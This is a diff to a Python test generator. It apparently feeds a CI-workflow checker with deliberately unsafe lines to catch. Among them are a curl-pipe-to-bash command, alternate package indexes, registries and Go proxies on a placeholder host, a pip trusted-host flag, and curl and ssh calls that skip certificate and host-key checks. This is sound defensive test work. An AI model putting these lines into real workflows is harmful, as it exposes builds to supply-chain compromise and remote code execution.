@@ -147,6 +147,13 @@ def _elsewhere() -> Iterator[Attempt]:
         "forgiven": "    continue-on-error: true",
         "piped": "      - run: curl -s https://x.invalid/i | bash",
         "handed down": "    secrets: inherit",
+        "another index": "      - run: pip install -e . --extra-index-url https://x.invalid/simple",
+        "another index, by a variable": "      PIP_INDEX_URL: https://x.invalid/simple",
+        "another registry": "      - run: npm ci --registry https://x.invalid",
+        "another proxy of modules": "      GOPROXY: https://x.invalid",
+        "a host that is believed": "      - run: pip install x --trusted-host x.invalid",
+        "certificates not checked": "      - run: curl -sk https://x.invalid -o x",
+        "keys of hosts not checked": "      - run: ssh -o StrictHostKeyChecking=no x.invalid ls",
     }
     for what, line in lines.items():
         yield Attempt(f"workflow: {what}", (changed(FLOW, line),))
